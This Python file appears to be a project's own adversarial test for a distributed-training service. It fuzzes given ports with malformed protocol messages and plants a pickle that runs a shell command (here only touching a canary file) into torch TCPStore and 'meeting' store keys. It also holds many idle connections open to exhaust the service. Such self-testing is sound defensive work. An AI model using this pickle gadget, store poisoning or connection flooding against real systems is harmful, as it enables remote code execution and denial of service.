"""Who reaches a port and has no secret: a program that tries what is known against each port that it is given.

echo HOST:PORT ... | python -m tests.attack.intruder --canary FILE [--silent COUNT]

It goes on until its standard input ends, and prints how many attempts it made, as JSON. Code that it gets to run would
make the canary.
"""

from __future__ import annotations

import argparse
import json
import os
import pickle
import random
import resource
import select
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from threading import Thread

import torch.distributed as dist
import zmq

from echelon.collectives.meeting_store import MeetingStore
from echelon.messages.identity import PUBLIC_SECRET, derive_keys

TIMEOUT_S = 0.5
OPEN = 50  # connections that are left half open, the newest ones
ZMTP = b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f\x03\x00"
TLS_HELLO = bytes.fromhex("16030100f8010000f40303") + bytes(200)  # cut off in the middle
BYTES: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "random bytes": lambda draw, code: draw.randbytes(draw.randrange(1, 4096)),
    "http": lambda draw, code: b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 9999999999\r\n\r\n" + draw.randbytes(99),
    "half-open tls": lambda draw, code: TLS_HELLO,
    "zmtp without keys": lambda draw, code: ZMTP + b"NULL".ljust(20, b"\0") + bytes(32) + draw.randbytes(100),
    "zmtp with other keys": lambda draw, code: ZMTP + b"CURVE".ljust(20, b"\0") + bytes(32) + draw.randbytes(200),
    "huge lengths": lambda draw, code: draw.choice([b"\xff" * 8, b"\x7f" + b"\xff" * 7, b"\x02" + b"\xff" * 8]) * 8,
    "a pickle": lambda draw, code: len(code).to_bytes(draw.choice([4, 8]), draw.choice(["big", "little"])) + code,
}


class Code:
    """Unpickled, it makes the canary."""

    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"touch {self._canary}",)


def fill(store: dist.Store, value: bytes) -> int:
    """Set every key that a store lists, and those that are known of torch; returns how many."""
    keys = {"init/", "default_pg/0//worker_count", "store_based_barrier_key:1", *store.list_keys()}
    for key in keys:
        store.set(key, value)
    return len(keys)


def attack_tcp_store(host: str, port: int, value: bytes) -> int:
    """Speak torch's protocol of stores; returns how many keys were set."""
    try:
        store = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=TIMEOUT_S), wait_for_workers=False)
        return fill(store, value)
    except (RuntimeError, ValueError):  # no store, or one that does not answer
        return 0


def attack_meeting(host: str, port: int, value: bytes) -> int:
    """Speak the meeting's protocol with keys that everybody knows; returns how many keys were set."""
    keys, limit = derive_keys(PUBLIC_SECRET), timedelta(seconds=TIMEOUT_S)
    store = MeetingStore(f"{host}:{port}", keys, "table", limit)
    try:
        store.set("init/", value)
        return 1
    except (TimeoutError, zmq.ZMQError):
        return 0
    finally:
        store.close()


def _is_over() -> bool:
    return bool(select.select([sys.stdin], [], [], 0)[0])


def _connect(host: str, port: int, kept: list[socket.socket]) -> socket.socket | None:
    try:
        connection = socket.create_connection((host, port), timeout=TIMEOUT_S)
    except OSError:
        return None
    kept.append(connection)
    return connection


def send_garbage(ports: list[tuple[str, int]], canary: Path) -> Counter[str]:
    """Try everything against each port, again and again; returns what was tried how often."""
    code = pickle.dumps(Code(canary))
    tried: Counter[str] = Counter()
    draw, kept = random.Random(1), list[socket.socket]()
    stores = Counter[str]()
    Thread(target=_attack_stores, args=(ports, code, stores), daemon=True).start()  # each attempt waits a while
    while True:
        for host, port in ports:
            for name, make in BYTES.items():
                connection = _connect(host, port, kept)
                if connection is None:
                    tried["not reached"] += 1
                    continue
                tried[name] += 1
                try:
                    connection.sendall(make(draw, code))
                except OSError:  # it has been closed already
                    tried["closed at once"] += 1
                if draw.random() < 0.5:
                    connection.close()
            if _is_over():
                return tried + stores
        for connection in kept[:-OPEN]:
            connection.close()
        del kept[:-OPEN]
        time.sleep(0.05)


def _attack_stores(ports: list[tuple[str, int]], code: bytes, keys: Counter[str]) -> None:
    """Take each port for a store, of torch's and of the meeting; counts attempts and keys that were set."""
    for host, port in ports:
        keys["keys set in a store of torch's"] += attack_tcp_store(host, port, code)
        keys["keys set at the meeting"] += attack_meeting(host, port, code)
        keys["attempts at a store"] += 2


def stay_silent(ports: list[tuple[str, int]], count: int) -> Counter[str]:
    """Hold so many connections to each port open and say nothing, until told to end."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    kept = list[socket.socket]()
    for host, port in ports:
        for _ in range(count):
            connection = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
            connection.setblocking(False)
            connection.connect_ex((host, port))
            kept.append(connection)
    print(json.dumps({"connections": len(kept)}), flush=True)
    while not _is_over():
        time.sleep(0.1)
    return Counter(connections=len(kept))


def main() -> None:
    """Say that it is ready, read the ports, and attack until standard input has more or ends."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--canary", type=Path, required=True)
    parser.add_argument("--silent", type=int, default=0, help="connections that say nothing, instead")
    options = parser.parse_args()
    print("ready", flush=True)
    where = [text.rpartition(":") for text in os.read(sys.stdin.fileno(), 1 << 16).decode().split()]
    ports = [(host.strip("[]"), int(port)) for host, _, port in where]
    tried = stay_silent(ports, options.silent) if options.silent else send_garbage(ports, options.canary)
    print(json.dumps(tried))


if __name__ == "__main__":
    main()
